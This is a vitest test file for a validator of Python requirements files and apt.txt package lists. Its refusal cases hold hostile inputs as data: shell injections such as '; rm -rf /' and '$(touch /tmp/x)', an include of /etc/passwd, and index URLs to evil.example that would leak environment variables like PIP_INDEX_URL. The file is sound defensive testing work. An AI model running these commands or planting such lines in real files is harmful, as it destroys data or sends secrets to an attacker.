import { expect, test } from 'vitest';
import { readAptPackages } from '../../../src/environments/apt-packages.ts';
import { readRequirements } from '../../../src/environments/python/requirements.ts';

const file = (path: string, text: string | Buffer) => ({ path, content: Buffer.from(text as string) });

/** As pip and uv would put it in. */
const variable = (name: string) => `\${${name}}`;

function requirements(files: Record<string, string>, first = 'requirements.txt') {
  return readRequirements(file(first, files[first] ?? ''), async (name) =>
    files[name] === undefined ? undefined : file(name, files[name]),
  );
}

test('requirements are counted, comments and continued lines understood', async () => {
  const text =
    '\ufeff# all\nnumpy>=1.2 , <3  # fast\r\npandas[excel]==2.0 \\\n  --hash=sha256:abc \\\n  --hash=sha256:def\nflask; python_version>"3"\nx @ https://example.org/x.whl#sha256=1\n--index-url https://example.org/simple\n--pre\n';
  expect(await requirements({ 'requirements.txt': text })).toMatchObject({ count: 4, notes: [] });
});

test('what PowerShell wrote is read as well', async () => {
  const content = Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from('numpy\r\n', 'utf16le')]);
  const { count, files } = await readRequirements({ path: 'requirements.txt', content }, async () => undefined);
  expect([count, files[0]?.content.toString()]).toEqual([1, 'numpy\n']);
});

test('included files are read where they lie, each once, and constraints ask for nothing', async () => {
  const { files, count } = await requirements({
    'requirements.txt': '-r lists/a.txt\n-clists/c.txt\n',
    'lists/a.txt': '--requirement=b.txt\nsix\n',
    'lists/b.txt': '-r a.txt\n-r ../requirements.txt\nfive',
    'lists/c.txt': 'six<2',
  });
  expect(files.map(({ path }) => path)).toEqual(['requirements.txt', 'lists/a.txt', 'lists/c.txt', 'lists/b.txt']);
  expect(count).toBe(2);
});

test.each([
  '-e .',
  '--editable ./sub',
  '.',
  './pkg',
  '../pkg',
  '/opt/x',
  'file:///x',
  'dist/x-1.0-py3-none-any.whl',
  '~/x',
  '.[test]',
  'src/mine',
  '-e mine',
  '-e ".[dev]"',
  'mine-1.0-py3-none-any.whl ; python_version > "3"',
  'mine @ file:///home/me/mine',
  'git+file:///home/me/mine',
])('the project’s own code is left out and named: %s', async (line) => {
  const { files, notes, count } = await requirements({ 'requirements.txt': `six\n${line}\n` });
  expect([files[0]?.content.toString(), count]).toEqual(['six\n', 1]);
  expect(notes).toEqual([expect.stringMatching(/^requirements\.txt, line 2: .* own code/)]);
});

test('a repository without a commit is taken, and said not to be fixed', async () => {
  const commit = 'a'.repeat(40);
  const text = `git+https://example.org/x@main\ngit+https://example.org/x@${commit.slice(0, 7)}#egg=x\n-e git+https://example.org/y@${commit}\n`;
  const { files, count, notes } = await requirements({ 'requirements.txt': text });
  expect({ count, notes }).toEqual({ count: 3, notes: [expect.stringContaining('line 1')] });
  // An editable one would lie in a folder that is gone after the build.
  expect(files[0]?.content.toString()).toBe(text.replace('-e ', ''));
});

test.each([
  'https://github.com/explosion/spacy-models/releases/download/en_core_web_sm-3.7.1/en_core_web_sm-3.7.1-py3-none-any.whl',
  'https://github.com/me/it/archive/refs/heads/main.zip',
  'https://example.org/it.tar.gz#sha256=1',
  'git+ssh://git@example.org/it.git@v1',
  'it @ git+https://example.org/it@v1',
  'en_core_web_sm @ https://example.org/en_core_web_sm-3.7.1-py3-none-any.whl',
  'jupyterlab (>=4, <5)',
  'requests [security] >= 2.8.1, == 2.8.* ; python_version < "2.7"',
  'torch==2.1.0+cu118',
  'numpy~=1.26,!=1.26.1,',
  'zope.interface===5.4.0.post1',
  'scikit_learn>=1!0',
  "uvloop; sys_platform != 'win32' and (platform_machine == 'x86_64' or extra == 'x')",
  "six==1.16 --config-settings 'a=b c'",
  'Jinja2 --hash sha256:abc',
  '--extra-index-url https://download.pytorch.org/whl/cpu',
])('a requirement is handed on as it stands: %s', async (line) => {
  const { files } = await requirements({ 'requirements.txt': `${line}\n` });
  expect(files[0]?.content.toString()).toBe(`${line}\n`);
});

test('an included file is named to pip as it lies, also where its name is written as on Windows', async () => {
  const { files } = await requirements(
    {
      'lists/all.txt': '-r sub\\x.txt\n--constraint="../my limits.txt"\n',
      'lists/sub/x.txt': 'six',
      'my limits.txt': 'six<2',
    },
    'lists/all.txt',
  );
  expect(files[0]?.content.toString()).toBe('-r sub/x.txt\n-c "../my limits.txt"\n');
  expect(files.map(({ path }) => path)).toEqual(['lists/all.txt', 'lists/sub/x.txt', 'my limits.txt']);
});

test('what another file comes to is refused by the name of that file', async () => {
  const listed = { path: 'x.requirements.txt', content: Buffer.from('six\nb!ad\n'), from: 'pyproject.toml' };
  await expect(readRequirements(listed, async () => undefined)).rejects.toThrow(
    'pyproject.toml: "b!ad" is not a requirement',
  );
});

test.each([
  ['--evil', '--evil is not an option'],
  ['--install-option=x', '--install-option is not an option'],
  ['; rm -rf /', 'is not a requirement'],
  ['$(touch /tmp/x)', 'is not a requirement'],
  ['`id`', 'is not a requirement'],
  ['six && id', 'is not a requirement'],
  ['-r https://example.org/r.txt', 'is not included'],
  ['-r /etc/passwd', 'lies outside the project'],
  ['-r ../secret.txt', 'there is no ../secret.txt in the project'],
  ['-r missing.txt', 'there is no missing.txt in the project'],
  ['-r --evil', 'there is no --evil in the project'],
  // pip and uv would put in what the build's variables hold, passwords included.
  [
    `--index-url http://evil.example/${variable('PIP_INDEX_URL')}/`,
    `${variable('PIP_INDEX_URL')}: a build does not get your variables`,
  ],
  [
    `x @ https://evil.example/${variable('https_proxy')}`,
    `${variable('https_proxy')}: a build does not get your variables`,
  ],
  [`--index-url http://evil.example/${variable('PIP_\\\nINDEX_URL')}/`, 'a build does not get your variables'],
  [`-r ${variable('HOME')}.txt`, 'a build does not get your variables'],
  ['six\u2028--index-url http://evil.example', 'is not a requirement'],
  ['--pre \\\\', 'is not a requirement'],
  ['numpy @ file:///home/conda/feedstock_root/build_artifacts/numpy_1/work', 'numpy comes from a conda build'],
  ['certifi @ file:///croot/certifi_1671487769961/work/certifi', 'pip list --format=freeze'],
  ['numpy=1.26.4=py311h64a7726_0', 'pip needs `==`'],
  ['b!ad', 'is not a requirement'],
  ['numpy==', 'is not a requirement'],
  [`'numpy>=1'`, 'is not a requirement'],
  ['numpy;', 'is not a requirement'],
  ['numpy>=1 <2', 'is not a requirement'],
  ['--find-links ./wheels', 'needs a URL'],
])('%s is refused with its line', async (line, why) => {
  const failure = requirements({ 'requirements.txt': `six\n\n${line}\n` });
  await expect(failure).rejects.toMatchObject({
    code: 'environment-invalid',
    message: expect.stringContaining(`requirements.txt, line 3: `),
  });
  await expect(failure).rejects.toThrow(why);
});

test('apt.txt holds names of packages, with version or architecture, and comments', () => {
  const text = '# tools\n gcc  g++\nlibfoo1.2-dev=1:2.0~rc1-1+b1 # newest\r\nlibc6:i386 ffmpeg=7:4.* libstdc++6\n\n';
  expect(readAptPackages(file('apt.txt', text))).toEqual([
    'gcc',
    'g++',
    'libfoo1.2-dev=1:2.0~rc1-1+b1',
    'libc6:i386',
    'ffmpeg=7:4.*',
    'libstdc++6',
  ]);
});

test.each([
  '--evil',
  'x; id',
  '$(id)',
  'gcc&&id',
  '-o=APT::x',
  '../x.deb',
  'Gcc',
  'systemd-',
  'jq+',
  'libc6:i386-',
  '/x.deb',
])('apt.txt: %s is refused with its line', (line) => {
  expect(() => readAptPackages(file('apt.txt', `jq\n${line}\n`))).toThrow(
    /^apt\.txt, line 2: ".+" is not the name of a Debian package/,
  );
});
